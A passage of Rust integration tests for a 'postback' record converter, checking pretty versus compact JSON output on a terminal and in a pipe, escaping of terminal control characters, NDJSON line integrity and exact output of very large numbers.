        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::from(slave))
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("postback runs");
    let status = child.wait().expect("postback ends");
    assert!(status.success(), "{args:?}: {status}");
    let mut shown = Vec::new();
    let mut master = std::fs::File::from(master);
    // Reading a pseudo-terminal whose other end has closed ends in EIO.
    let _ = master.read_to_end(&mut shown);
    String::from_utf8(shown)
        .expect("UTF-8")
        .replace("\r\n", "\n")
}

#[test]
fn json_on_a_terminal_is_pretty_printed_and_in_a_pipe_compact() {
    let args = [
        "convert",
        "--to",
        "json",
        "tests/fixtures/provider/n003.xml",
    ];
    let shown = on_a_terminal(&args);
    assert_eq!(
        shown,
        "[\n  {\n    \"ORIGIN\": \"MMS_MT\",\n    \"CODE\": \"N003\",\n    \"MMSID\": \"35674\"\n  }\n]\n",
        "{shown:?}"
    );
    let piped = exec(&args);
    assert_eq!(
        piped.stdout,
        "[{\"ORIGIN\":\"MMS_MT\",\"CODE\":\"N003\",\"MMSID\":\"35674\"}]\n"
    );
    // The same values either way, and NDJSON stays a record a line.
    let a: Value = serde_json::from_str(&shown).unwrap();
    let b: Value = serde_json::from_str(&piped.stdout).unwrap();
    assert_eq!(a, b);
    let ndjson = on_a_terminal(&[
        "convert",
        "--to",
        "ndjson",
        "tests/fixtures/provider/n003.xml",
    ]);
    assert_eq!(ndjson.lines().count(), 1, "{ndjson:?}");
}

#[test]
fn pretty_json_keeps_nesting_arrays_and_terminal_safe_escapes() {
    let dir = temp();
    let path = dir.path().join("two.xml");
    fs::write(
        &path,
        "<POSTBACK><CODE>N401</CODE><CONTENT><FILE>a</FILE><FILE>b</FILE></CONTENT>\
         <X>\u{9b}</X></POSTBACK>\n<POSTBACK><CODE>N003</CODE></POSTBACK>\n",
    )
    .unwrap();
    let shown = on_a_terminal(&["convert", "--to", "json", path.to_str().unwrap()]);
    assert!(!shown.contains('\u{9b}'), "{shown:?}");
    assert!(shown.contains("\"X\": \"\\u009b\""), "{shown}");
    assert!(
        shown.contains(
            "\"CONTENT\": {\n      \"FILE\": [\n        \"a\",\n        \"b\"\n      ]\n    },"
        ),
        "{shown}"
    );
    assert!(
        shown.contains("\n  },\n  {\n    \"CODE\": \"N003\"\n  }\n]\n"),
        "{shown}"
    );
    let parsed: Vec<Value> = serde_json::from_str(&shown).unwrap();
    assert_eq!(parsed.len(), 2);
}

/// v2_reader fuzzing: a v2 value written over several lines (an object,
/// an array) was copied with its line breaks, so one NDJSON record took
/// several lines and no line of it parsed.
#[test]
fn a_v2_value_over_several_lines_stays_on_its_ndjson_line() {
    let body = "{\"origin\":\"SMS_MT\",\"code\":\"N202\",\"x\":{\"a\":\r\n1},\"y\":[1,\n 2]}\n";
    let run = exec_stdin(&["convert", "--to", "ndjson"], body);
    assert_eq!(run.status, 0, "{run}");
    let lines: Vec<&str> = run.stdout.lines().collect();
    assert_eq!(
        lines,
        [r#"{"origin":"SMS_MT","code":"N202","x":{"a":1},"y":[1, 2]}"#],
        "{run}"
    );
    for line in lines {
        serde_json::from_str::<serde_json::Value>(line).expect("each line is JSON");
    }
}

/// v2_reader fuzzing: a v2 number is written exactly as sent, however far
/// it lies beyond a double's range or precision (JSON sets no range; jq reads
/// such a number as a large double, a reader with arbitrary precision keeps it).
#[test]
fn a_v2_number_beyond_a_doubles_range_is_written_as_sent() {
    let big = "1234567890123456789012345678901234567890";
    let body = format!(
        "{{\"origin\":\"SMS_MT\",\"code\":\"N202\",\"a\":1E9012,\"b\":-1e-9999,\"c\":{big}}}\n"
    );
    let members = format!("\"a\":1E9012,\"b\":-1e-9999,\"c\":{big}");
    let ndjson = exec_stdin(&["convert", "--to", "ndjson"], body.as_str());
    assert_eq!(ndjson.status, 0, "{ndjson}");
    assert_eq!(
        ndjson.stdout,
        format!("{{\"origin\":\"SMS_MT\",\"code\":\"N202\",{members}}}\n"),
        "{ndjson}"
    );
    let json = exec_stdin(&["convert", "--to", "json"], body.as_str());
    assert_eq!(json.status, 0, "{json}");
    assert!(json.stdout.starts_with('['), "{json}");
    assert!(json.stdout.contains(&members), "{json}");
}
